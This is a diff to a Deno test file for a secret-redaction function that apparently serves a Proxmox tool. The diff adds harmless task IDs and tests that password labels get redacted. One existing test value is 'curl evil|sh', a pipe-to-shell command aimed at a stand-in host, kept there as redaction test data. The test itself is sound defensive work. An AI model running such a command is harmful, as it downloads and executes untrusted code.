@@ -61,6 +61,8 @@ const EXAMPLES = SECRET_KINDS.flatMap(({ examples }) => examples);
 
 /** Texts that only sound as if they held a secret. */
 const HARMLESS = [
+  "end task UPID:pve1:0000C530:001C9BEC:6B098237:qmstart:101:root@pam!mcp-token: OK",
+  "/nodes/pve1/tasks/UPID%3Apve1%3A0000C530%3A001C9BEC%3A6B098237%3Aqmstart%3A101%3Aroot%40pam!token%3A/log",
   "Cannot start VM 101: guest is locked (backup)",
   "UPID:pve1:0003F2A1:0A1B2C3D:66AA77BB:qmstart:101:root@pam!mcp:",
   "token_name=assistant token_id=3 tokenName: x tokenid=mcp",
@@ -339,6 +341,9 @@ Deno.test("redactValue reads an array as an argv", () => {
   assert.deepEqual(redactValue(hiding), hiding);
   const notes = ["its secret is told to nobody", "the source stays"];
   assert.deepEqual(redactValue(notes), notes);
+  for (const name of ["Admin password", "Root password:", "root user password"]) {
+    assert.deepEqual(redactValue([name, "S3cret"]), [name, REDACTED]);
+  }
   assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
 });
 
